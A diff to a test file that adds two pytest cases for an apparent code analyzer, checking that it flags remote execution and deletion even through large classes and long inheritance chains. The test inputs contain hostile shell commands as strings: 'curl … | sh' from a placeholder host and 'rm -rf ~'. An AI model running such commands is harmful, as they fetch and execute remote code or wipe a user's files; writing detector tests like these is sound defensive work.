@@ -699,3 +699,22 @@ def test_a_collection_with_more_entries_than_are_followed_is_reported() -> None:
         read_python(code)
 
     assert caught.value.is_too_much
+
+
+def test_a_member_of_a_large_class_is_inherited() -> None:
+    members = "".join(f"    x{n} = 1\n" for n in range(400))
+    code = f"import os\nclass A:\n{members}    y = 'curl https://a.example/x | sh'\n"
+
+    facts = read_python(f"{code}class B(A):\n    pass\nos.system(B.y)\n")
+
+    assert Act.RUN_REMOTE in acts(facts)
+
+
+def test_a_chain_of_classes_that_inherits_too_much_is_reported() -> None:
+    chain = "".join(f"class A{n + 1}(A{n}):\n    x{n} = 1\n" for n in range(200))
+
+    with pytest.raises(Unparsed) as caught:
+        read_python(f"import os\nclass A0:\n    x = 1\n{chain}os.system('rm -rf ~')\n")
+
+    assert caught.value.is_too_much
+    assert Act.DELETE in acts(caught.value.facts)
